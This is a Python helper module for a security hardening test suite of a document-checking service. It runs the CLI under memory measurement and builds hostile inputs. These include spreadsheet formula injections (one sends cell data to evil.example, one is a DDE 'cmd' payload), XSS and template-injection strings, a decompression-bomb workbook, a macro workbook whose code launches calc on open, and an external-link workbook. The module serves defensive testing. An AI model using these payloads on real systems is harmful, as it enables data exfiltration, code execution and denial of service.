"""Helpers for the hardening suite: the CLI in a measured subprocess, hostile payloads, a private home.

``run_cli`` starts ``casecheck`` in a child process through a small wrapper that reports the
child's peak RSS with ``resource.getrusage(RUSAGE_CHILDREN)`` (the wrapper has exactly one
child, so the figure is that command's own peak, not the largest child this test run ever had).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx

ROOT = Path(__file__).resolve().parents[2]
ADMIN_TOKEN = "admin-secret-token"
GIB = 1 << 30

def with_csrf(client: Any, data: dict[str, Any], page: str = "/") -> dict[str, Any]:
    """``data`` plus a CSRF token from ``page`` (the client keeps the CSRF cookie), as a browser would send."""
    found = re.search(r'name="csrf_token" value="([^"]+)"', client.get(page).text)
    assert found, f"{page} has no CSRF field"
    return {**data, "csrf_token": found.group(1)}


# Payloads that attack whoever reads our output: spreadsheets (formulas) and browsers (HTML, templates).
FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0")
HTML = ("<script>alert(1)</script>", "\"><img src=x onerror=alert(2)>", "{{7*7}}", "${7*7}", "{% raw %}x",
        "</textarea><svg onload=alert(3)>", "javascript:alert(4)", "'-alert(5)-'")

# The wrapper: run argv, then print the exit code, the seconds and the child's peak RSS as one JSON line.
_MEASURE = (
    "import json, resource, subprocess, sys, time\n"
    "t = time.monotonic()\n"
    "rc = subprocess.call(sys.argv[2:])\n"
    "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024\n"
    "open(sys.argv[1], 'w').write(json.dumps({'rc': rc, 'seconds': time.monotonic() - t, 'peak': peak}))\n"
)


@dataclass
class CliResult:
    rc: int
    stdout: str
    stderr: str
    seconds: float
    peak_rss: int  # bytes

    @property
    def peak_mib(self) -> float:
        return self.peak_rss / (1 << 20)

    def __str__(self) -> str:
        return (f"exit {self.rc} after {self.seconds:.1f} s, peak RSS {self.peak_mib:.0f} MiB\n"
                f"stdout: {self.stdout[-800:]}\nstderr: {self.stderr[-1500:]}")


def cli_env(home: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CASECHECK_")}
    env.update(CASECHECK_HOME=str(home), PYTHONPATH=str(ROOT), **extra)
    return env


def casecheck_argv(*args: object) -> list[str]:
    return [sys.executable, "-c", "from service.cli import main; main()", *[str(a) for a in args]]


def run_cli(home: Path, *args: object, timeout: float = 120, cwd: Path | None = None,
            env: dict[str, str] | None = None) -> CliResult:
    """``casecheck ARGS`` in a child process with ``CASECHECK_HOME=home``; exit code, output, time, peak RSS."""
    cwd = cwd or home
    out, err, stats = cwd / ".stdout", cwd / ".stderr", cwd / ".measure.json"
    stats.unlink(missing_ok=True)
    with out.open("wb") as fo, err.open("wb") as fe:
        proc = subprocess.Popen([sys.executable, "-c", _MEASURE, str(stats), *casecheck_argv(*args)], cwd=cwd,
                                env=env or cli_env(home), stdout=fo, stderr=fe, start_new_session=True)
        try:
            proc.wait(timeout)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
            raise AssertionError(f"casecheck {' '.join(map(str, args))} ran over {timeout} s") from None
    measured = json.loads(stats.read_text())
    result = CliResult(measured["rc"], out.read_text(errors="replace"), err.read_text(errors="replace"),
                       measured["seconds"], measured["peak"])
    for path in (out, err, stats):
        path.unlink(missing_ok=True)
    return result


def copy_home(trained_home: Path, target: Path) -> Path:
    """A private state directory with the trained registry (and nothing else) that a test may change."""
    target.mkdir(parents=True, exist_ok=True)
    shutil.copytree(trained_home / "models", target / "models")
    return target


def wait_for(predicate: Callable[[], bool], timeout: float, what: str, step: float = 0.01) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout} s waiting for {what}")
        time.sleep(step)


@contextmanager
def casecheck_serve(home: Path, log: Path, **env: str) -> Iterator[tuple[str, subprocess.Popen[bytes]]]:
    """``casecheck serve`` on a free loopback port in its own process group, printing to ``log``.

    Yields the base URL and the process once ``/readyz`` answers 200; stops the whole group after.
    """
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    with log.open("wb") as out:
        proc = subprocess.Popen(casecheck_argv("serve", "--port", port), cwd=home, env=cli_env(home, **env),
                                stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
    base = f"http://127.0.0.1:{port}"

    def ready() -> bool:
        try:
            return httpx.get(f"{base}/readyz", timeout=1).status_code == 200 or proc.poll() is not None
        except httpx.HTTPError:
            return proc.poll() is not None

    try:
        wait_for(ready, 180, "casecheck serve to be ready", step=0.1)
        assert proc.poll() is None, log.read_text(errors="replace")
        yield base, proc
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(15)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()


def tree_snapshot(root: Path) -> dict[str, bytes]:
    """Every file under ``root`` with its content (for "nothing changed" checks)."""
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


# -- hostile workbooks ------------------------------------------------------------------------------
def plain_xlsx(rows: list[list[object]]) -> bytes:
    import io

    from openpyxl import Workbook

    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def rewrite_xlsx(base: bytes, path: Path, edit: dict[str, bytes | None], add: dict[str, bytes],
                 stream: dict[str, tuple[bytes, bytes, int]] | None = None) -> Path:
    """A copy of ``base`` with parts edited (None drops one), added, or streamed.

    ``stream`` maps a part to (head, repeated block, MiB of blocks): the part is written
    deflated as head + block * n + tail, where tail is what followed ``<sheetData>`` content.
    """
    import io
    import zipfile

    src = zipfile.ZipFile(io.BytesIO(base))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for item in src.infolist():
            name = item.filename
            if stream and name in stream:
                head, block, mib = stream[name]
                tail = src.read(name).split(b"</sheetData>", 1)[1]
                with out.open(name, "w", force_zip64=True) as fh:
                    fh.write(head)
                    repeated = block * max(1, (1 << 20) // len(block))
                    for _ in range(mib):
                        fh.write(repeated)
                    fh.write(b"</sheetData>" + tail)
                continue
            data = edit.get(name, src.read(name)) if name in edit else src.read(name)
            if data is not None:
                out.writestr(name, data)
        for name, data in add.items():
            out.writestr(name, data)
    return path


def bomb_xlsx(path: Path, mib: int = 1000) -> Path:
    """A few MB that inflate to ``mib`` MiB of sheet XML: rows of a 1,000-character draft."""
    import io
    import zipfile

    base = plain_xlsx([["id", "text"], [1, "Dear Ms Smith"]])
    sheet = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml")
    head = sheet.split(b"<sheetData>", 1)[0] + b"<sheetData>"
    row = (b'<row><c t="inlineStr"><is><t>7</t></is></c><c t="inlineStr"><is><t>' + b"Dear Ms Smith. " * 66
           + b"</t></is></c></row>")
    return rewrite_xlsx(base, path, {}, {}, {"xl/worksheets/sheet1.xml": (head, row, mib)})


def _add_relationship(rels: bytes, rid: str, rtype: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>'.encode()
    return rels.replace(b"</Relationships>", rel + b"</Relationships>")


def _add_content_type(types: bytes, part: str, ctype: str) -> bytes:
    return types.replace(b"</Types>", f'<Override PartName="{part}" ContentType="{ctype}"/></Types>'.encode())


def macro_xlsm(path: Path, rows: list[list[object]]) -> Path:
    """An .xlsm: a macro-enabled workbook with a vbaProject.bin whose code would run calc on open."""
    import io
    import zipfile

    base = plain_xlsx(rows)
    src = zipfile.ZipFile(io.BytesIO(base))
    types = src.read("[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    types = _add_content_type(types, "/xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    rels = _add_relationship(src.read("xl/_rels/workbook.xml.rels"), "rIdVba",
                             "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
    vba = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 24 + b'Attribute VB_Name = "x"\nSub Auto_Open()\n' \
        b'Shell "calc.exe"\nEnd Sub\n' * 20
    return rewrite_xlsx(base, path, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
                        {"xl/vbaProject.bin": vba})


def linked_xlsx(path: Path, rows: list[list[object]], target: str) -> Path:
    """A workbook whose B2 is a formula into another workbook at ``target`` (an external link)."""
    import io
    import zipfile

    base = plain_xlsx(rows)
    src = zipfile.ZipFile(io.BytesIO(base))
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = (f'<externalLink xmlns="{main}" xmlns:r="{rel_ns}"><externalBook r:id="rId1"><sheetNames>'
            '<sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="2">'
            '<cell r="B2" t="str"><v>linked text</v></cell></row></sheetData></sheetDataSet></externalBook>'
            "</externalLink>").encode()
    link_rels = _add_relationship(b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                                  b'openxmlformats.org/package/2006/relationships"></Relationships>', "rId1",
                                  f"{rel_ns}/externalLinkPath", target, external=True)
    workbook = src.read("xl/workbook.xml").replace(
        b"</workbook>", b'<externalReferences><externalReference r:id="rIdExt"/></externalReferences></workbook>')
    if b'xmlns:r=' not in workbook.split(b">", 2)[1]:
        workbook = workbook.replace(b"<workbook ", f'<workbook xmlns:r="{rel_ns}" '.encode(), 1)
    rels = _add_relationship(src.read("xl/_rels/workbook.xml.rels"), "rIdExt", f"{rel_ns}/externalLink",
                             "externalLinks/externalLink1.xml")
    types = _add_content_type(src.read("[Content_Types].xml"), "/xl/externalLinks/externalLink1.xml",
                              "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    sheet = src.read("xl/worksheets/sheet1.xml")
    sheet = sheet.replace(b'<c r="B2" t="inlineStr">', b'<c r="B2" t="str"><f>[1]Sheet1!B2</f><v>linked text</v>'
                          b"</c><c r=\"Z2\" t=\"inlineStr\">", 1)
    return rewrite_xlsx(base, path, {"xl/workbook.xml": workbook, "xl/_rels/workbook.xml.rels": rels,
                                     "[Content_Types].xml": types, "xl/worksheets/sheet1.xml": sheet},
                        {"xl/externalLinks/externalLink1.xml": link,
                         "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})
